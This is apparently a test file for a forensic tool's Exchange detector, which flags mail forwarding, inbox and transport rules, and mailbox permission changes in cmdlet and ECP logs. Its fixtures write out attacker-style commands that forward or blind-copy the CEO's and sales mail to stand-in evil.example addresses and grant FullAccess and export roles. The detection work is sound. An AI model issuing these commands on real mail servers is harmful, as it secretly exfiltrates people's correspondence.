// Mailbox changes an intruder makes to keep reading mail: the real WEC-collected MSExchange Management event of the
// shared data (Set-Mailbox -ForwardingSmtpAddress) read through Loupe's EVTX parser, and the other cmdlets as the
// cmdlet log and the ECP log record them, with their benign twins (forwarding cleared, a look-alike cmdlet).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import { parseEvtx } from '../../../electron/ingest/sources/evtx/index.ts';
import { checkMailboxChanges } from '../../../electron/detect/mailbox-changes.ts';
import { isoToMicros } from '../../../shared/types.ts';
import { addFile, addLog, insertEvents, newCase, sharedData } from './helpers.ts';

const WEC = sharedData('evtx-hard', 'rs__samples__MSExchange_Management_wec.evtx');
const MGMT = 'C/Windows/System32/winevt/Logs/MSExchange Management.evtx';

test('the real WEC-collected cmdlet event: forwarding of Administrateur to an outside address, for review', { skip: fs.existsSync(WEC) ? false : 'shared EVTX data absent' }, async () => {
  const tc = newCase();
  try {
    await addLog(tc, MGMT, 'evtx', parseEvtx, fs.readFileSync(WEC));
    const found = checkMailboxChanges(tc.db);
    assert.equal(found.length, 1);
    const [f] = found;
    assert.equal(f.finding.check, 'mail.forwarding');
    assert.deepEqual([f.finding.severity, f.finding.confidence], ['high', 'review']);
    assert.equal(f.finding.title, 'Mail forwarding set on Administrateur → smtp:test2@example.com by ave.local/Users/Administrateur (Set-Mailbox, 2021-11-19 16:52:33)');
    assert.deepEqual(f.finding.evidence, [{ file: MGMT, record: 3229 }]);
  } finally {
    tc.close();
  }
});

test('inbox and transport rules, rights and roles are found in the cmdlet and ECP logs; clearing, look-alikes and rights without FullAccess are not', () => {
  const tc = newCase();
  try {
    const fileId = addFile(tc, MGMT, 'ElfFile\0', { kind: 'evtx' });
    let record = 0;
    const ev = (at: string, cmdlet: string, params: string, id = 1) => ({
      ts: isoToMicros(at), tsDesc: 'Event Logged', source: 'evtx' as const, message: `MSExchange Management ${id}: ${cmdlet} ${params}`,
      fields: { EventID: id, Provider: 'MSExchange CmdletLogs', Channel: 'MSExchange Management', 'data.0': cmdlet, 'data.1': params, 'data.2': 'contoso.local/Users/eve' },
      ref: { file: MGMT, record: ++record },
    });
    insertEvents(tc, fileId, [
      ev('2021-03-05T10:00:00Z', 'New-InboxRule', "-Mailbox 'ceo' -Name 'x' -ForwardAsAttachmentTo 'drop@evil.example' -MarkAsRead $true"),
      ev('2021-03-05T10:01:00Z', 'New-TransportRule', "-Name 'Journal' -SentToScope 'InOrganization' -BlindCopyTo 'drop@evil.example'"),
      ev('2021-03-05T10:02:00Z', 'Add-MailboxPermission', "-Identity 'cfo' -User 'eve' -AccessRights 'FullAccess'"),
      ev('2021-03-05T10:02:30Z', 'Add-MailboxPermission', "-Identity 'cfo' -User 'eve' -AccessRights 'ReadPermission'"),
      ev('2021-03-05T10:03:00Z', 'New-ManagementRoleAssignment', "-Role 'Mailbox Import Export' -User 'eve'"),
      ev('2021-03-05T10:04:00Z', 'Set-Mailbox', '-Identity "cfo" -ForwardingSmtpAddress $null'),
      ev('2021-03-05T10:05:00Z', 'Set-MailboxJunkEmailConfiguration', "-Identity 'cfo' -Enabled $false"),
      ev('2021-03-05T10:06:00Z', 'Set-Mailbox', "-Identity 'hr' -ForwardingAddress 'eve'", 6),
      ev('2021-03-05T10:07:00Z', 'Set-Mailbox', "-Identity 'hr' -ForwardingAddress 'eve'"),
      ev('2021-03-05T10:08:00Z', 'Set-Mailbox', "-Identity 'hr' -ForwardingAddress 'eve'"),
    ]);
    const ecpRel = 'C/Program Files/Microsoft/Exchange Server/V15/Logging/ECP/Server/ECPServer20210305-1.LOG';
    const ecpId = addFile(tc, ecpRel, '#Fields: TimeStamp,ServerName,EventId,EventData\n', { kind: 'ecp-server-log' });
    insertEvents(tc, ecpId, [{
      ts: isoToMicros('2021-03-05T10:09:00Z'), tsDesc: 'Logged', source: 'ecp-server', message: "ECP.Request: S:CMD=Set-Mailbox.Identity=''sales'';ForwardingSmtpAddress=''smtp:out@evil.example''",
      fields: { EventData: "S:CMD=Set-Mailbox.Identity=''sales'';ForwardingSmtpAddress=''smtp:out@evil.example''" }, ref: { file: ecpRel, line: 2 },
    }]);
    const titles = checkMailboxChanges(tc.db).map((f) => `${f.finding.check} ${f.finding.severity}/${f.finding.confidence} ${f.finding.title}`).sort();
    assert.deepEqual(titles, [
      'mail.forwarding high/review Inbox rule "x" on ceo sends mail to drop@evil.example by contoso.local/Users/eve (New-InboxRule, 2021-03-05 10:00:00)',
      'mail.forwarding high/review Mail forwarding set on hr → eve by contoso.local/Users/eve (Set-Mailbox, 2021-03-05 10:07:00, 2 times)',
      'mail.forwarding high/review Mail forwarding set on sales → smtp:out@evil.example (Set-Mailbox, 2021-03-05 10:09:00)',
      'mail.forwarding high/review Transport rule "Journal" sends copies of mail to drop@evil.example by contoso.local/Users/eve (New-TransportRule, 2021-03-05 10:01:00)',
      'mail.forwarding low/info FAILED: Mail forwarding set on hr → eve by contoso.local/Users/eve (Set-Mailbox, 2021-03-05 10:06:00)',
      'mail.permission medium/review Full access to mailbox cfo granted to eve by contoso.local/Users/eve (Add-MailboxPermission, 2021-03-05 10:02:00)',
      'mail.permission medium/review Management role Mailbox Import Export assigned to eve by contoso.local/Users/eve (New-ManagementRoleAssignment, 2021-03-05 10:03:00)',
    ]);
  } finally {
    tc.close();
  }
});
